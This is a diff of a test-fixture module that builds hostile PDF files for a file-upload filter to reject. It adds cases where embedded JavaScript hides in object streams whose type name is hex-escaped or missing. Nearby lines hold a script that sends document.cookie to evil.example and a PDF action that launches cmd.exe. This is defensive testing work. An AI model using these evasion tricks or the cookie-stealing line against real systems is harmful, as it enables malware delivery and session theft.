@@ -14,9 +14,9 @@ export function makePdf(extra = '', objects = ''): Buffer {
 }
 
 /** A PDF whose dangerous dictionary hides in a compressed object stream. */
-export function makePackedPdf(inside: string | Buffer, filter = '/Filter/FlateDecode'): Buffer {
+export function makePackedPdf(inside: string | Buffer, type = '/Type/ObjStm'): Buffer {
   const packed = deflateSync(inside)
-  const head = bytes(`4 0 obj<</Type/ObjStm/N 1/First 4/Length ${packed.length}${filter}>>stream\n`)
+  const head = bytes(`4 0 obj<<${type}/N 1/First 4/Length ${packed.length}/Filter/FlateDecode>>stream\n`)
   const pdf = makePdf('', 'HERE')
   const at = pdf.indexOf('HERE')
   return Buffer.concat([pdf.subarray(0, at), head, packed, bytes('\nendstream endobj'), pdf.subarray(at + 4)])
@@ -65,6 +65,8 @@ function crc32(data: Buffer): number {
 }
 
 const SCRIPT = '<script>fetch("https://evil.example/"+document.cookie)</script>'
+/** Its dictionary speaks of a stream before there is one. */
+const FAKE = '/Type/ObjStm/X(stream\n)'
 const FTYP = (brand: string) =>
   Buffer.concat([Buffer.from([0, 0, 0, 24]), bytes(`ftyp${brand}\0\0\0\0mif1${brand}`)])
 const ZIP = bytes('PK\x03\x04\x14\0\0\0\x08\0')
@@ -172,6 +174,15 @@ export async function makeRefusedFiles(): Promise<Array<Hostile & { code: string
       makePackedPdf('4 0 <</S/JavaScript/JS(app.alert(1))>>'),
       'pdf_active',
     ],
+    // The same, under names that a reader understands all the same, or under none.
+    ...['/Type/Obj#53tm', '/Type/ObjSt#6d', '/Type/#4fbjStm', '/Type/Ob#6aStm', '/Type 9 0 R', '', FAKE].map(
+      (type): [string, string, Buffer, string] => [
+        `a PDF with JavaScript packed away as ${type || 'nothing'}`,
+        'bill.pdf',
+        makePackedPdf('4 0 <</S/JavaScript/JS(app.alert(1))>>', type),
+        'pdf_active',
+      ],
+    ),
     ['a PDF packed in an unknown way', 'bill.pdf', makePackedPdfRaw(), 'pdf_active'],
     ['a PDF that starts a program', 'bill.pdf', makePdf('/OpenAction<</S/Launch/F(cmd.exe)>>'), 'pdf_active'],
     ['a PDF that carries a file', 'bill.pdf', makePdf('/Names<</EmbeddedFiles 9 0 R>>'), 'pdf_active'],
